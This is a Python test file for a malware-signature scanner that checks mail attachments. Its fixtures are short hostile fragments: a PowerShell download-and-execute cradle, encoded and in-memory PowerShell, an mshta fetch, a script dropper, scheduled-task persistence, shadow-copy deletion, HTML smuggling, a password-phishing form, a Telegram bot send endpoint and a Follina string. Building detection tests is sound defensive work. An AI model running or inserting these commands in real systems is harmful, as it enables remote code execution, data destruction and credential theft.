"""Signatures: each of our rules finds what it describes, and nothing in plain files."""

from base64 import b64encode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from katharion.content.attachments.signatures import (
    Signatures,
    inspect_signatures,
    own_rules,
    use_rules,
)
from katharion.content.attachments.values import File

STUB = b"This program cannot be run in DOS mode"
LNK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F"
EXAMPLES = {
    "text_program_base64": b64encode(b"MZ" + bytes(77) + STUB + bytes(9)),
    "text_program_hexadecimal": (b"MZ" + bytes(77) + STUB).hex().encode(),
    "document_program": b"%PDF-1.7 " + STUB,
    "shortcut_powershell": LNK + "powershell -w hidden".encode("utf-16-le"),
    "shortcut_fetches": LNK + "mshta https://x.example".encode("utf-16-le"),
    "powershell_encoded": b"powershell.exe -w 1 -enc " + b"A" * 60,
    "powershell_downloads": b"IEX (New-Object Net.WebClient).DownloadString('x')",
    "powershell_memory": b"[Reflection.Assembly]::Load([Convert]::FromBase64String($a))",
    "script_dropper": b'CreateObject("ADODB.Stream").SaveToFile "a.exe"',
    "script_persistence": b"schtasks /create /tn a /tr b",
    "script_shadow_copies": b"vssadmin delete shadows /all",
    "page_smuggles_file": b"new Blob([atob(x)]); URL.createObjectURL(b); a.download='x'",
    "page_smuggles_archive": b"<script>var a='UEsDB" + b"A" * 300 + b"'",
    "page_asks_password_of_account": b"Office 365 <input name=a type='password'>",
    "page_sends_to_bot": b"https://api.telegram.org/bot123456789:AAA/sendMessage",
    "page_escaped_whole": b"document.write(unescape('%3c'))",
    "disk_with_shortcut": bytes(32769) + b"CD001" + bytes(99) + b"INVOICE.LNK;1",
    "program_autoit": b"MZ" + bytes(99) + b"AU3!EA06",
    "macro_downloader": b"Sub AutoOpen()\nURLDownloadToFileA",
    "document_follina": b"ms-msdt:/id PCWDiagnostic IT_BrowseForFile=x",
    "batch_hidden": b"%a:~1,1%" * 7,
}


def found(content: bytes) -> list[str]:
    seen = inspect_signatures(File("2", "a", "text", content))
    return [finding.name.removeprefix("FILE_YARA_").lower() for finding in seen.findings]


@pytest.mark.parametrize("rule", sorted(EXAMPLES))
def test_each_rule_finds_its_example(rule: str) -> None:
    assert rule in found(EXAMPLES[rule])


def test_each_rule_has_an_example() -> None:
    rules = {line.split()[1] for line in own_rules().splitlines() if line.startswith("rule ")}
    assert rules == set(EXAMPLES)


def test_plain_files_match_nothing() -> None:
    for content in (b"Dear all, see you at 10.", b"MZ" + STUB, b"<html><p>Office 365</p></html>"):
        assert found(content) == []


def test_an_operators_rules_stand_beside_ours() -> None:
    own = 'rule invoice { meta: points = 9 strings: $a = "INV-4711" condition: $a }'
    assert len(use_rules([("own.yar", own), ("bad.yar", "rule {")])) == 1
    seen = inspect_signatures(File("2", "a", "text", b"INV-4711"))
    assert [(each.name, each.weight) for each in seen.findings] == [("FILE_YARA_INVOICE", 4.5)]
    assert "script_shadow_copies" in found(EXAMPLES["script_shadow_copies"])
    use_rules([])


def test_what_takes_too_long_was_not_checked() -> None:
    inner = "(for all j in (0..filesize) : (i + j >= 0))"
    slow = "rule slow { condition: for all i in (0..filesize) : " + inner + " }"
    seen = Signatures([("slow", slow)]).inspect(File("2", "a", "text", bytes(1_000_000)))
    assert [each.was_checked for each in seen.findings] == [False]


@given(st.binary(max_size=500))
def test_no_octets_raise(octets: bytes) -> None:
    inspect_signatures(File("2", "a", "data", octets))
